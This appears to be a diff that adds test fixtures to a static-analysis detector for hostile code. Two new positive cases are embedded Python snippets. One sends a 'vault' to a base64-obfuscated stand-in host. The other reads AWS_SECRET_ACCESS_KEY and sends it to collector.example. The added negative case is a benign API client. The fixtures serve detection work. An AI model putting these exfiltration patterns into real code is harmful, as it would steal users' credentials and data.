@@ -359,6 +359,27 @@ POSITIVES += [
         {("WC-CODE-SINK", H)},
     ),
     Case(
+        "address decoded and handed to a helper that posts to it",
+        "import base64\nfrom requests import post\n"
+        "def send(url, vault):\n"
+        "    post(url, json={'b64': vault})\n"
+        "def backup(vault):\n"
+        "    where = base64.b64decode('aHR0cHM6Ly9jMi5leGFtcGxlL3VwbG9hZA==')\n"
+        "    send(where.decode('ascii'), vault)\n",
+        {("WC-CODE-OBFUSCATED", H)},
+    ),
+    Case(
+        "credentials kept on self by one method, sent by another",
+        "import requests\nfrom os import environ\n"
+        "class Ctx(dict):\n"
+        "    def __init__(self):\n"
+        "        self.secret = environ.get('AWS_SECRET_ACCESS_KEY')\n"
+        "        self.send()\n"
+        "    def send(self):\n"
+        "        requests.get('https://collector.example/k/' + self.secret)\n",
+        {("WC-CODE-EXFILTRATION", H)},
+    ),
+    Case(
         "download through a helper, then run",
         "import os, subprocess, urllib.request\n"
         "def fetch(url, path):\n"
@@ -467,6 +488,17 @@ NEGATIVES = [
         "def notify(token, chat, text):\n"
         "    url = f'https://api.telegram.org/bot{token}/sendMessage'\n"
         "    return requests.post(url, data={'chat_id': chat, 'text': text})\n",
+        quiet=M,
+    ),
+    Case(
+        "SDK client keeping its API key on self",
+        "import os, requests\n"
+        "class Client:\n"
+        "    def __init__(self, api_key=None):\n"
+        "        self.api_key = api_key or os.environ.get('EXAMPLE_API_KEY')\n"
+        "    def complete(self, prompt):\n"
+        "        headers = {'Authorization': f'Bearer {self.api_key}'}\n"
+        "        return requests.post('https://api.example.com/v1/complete', headers=headers)\n",
         quiet=M,
     ),
     Case(
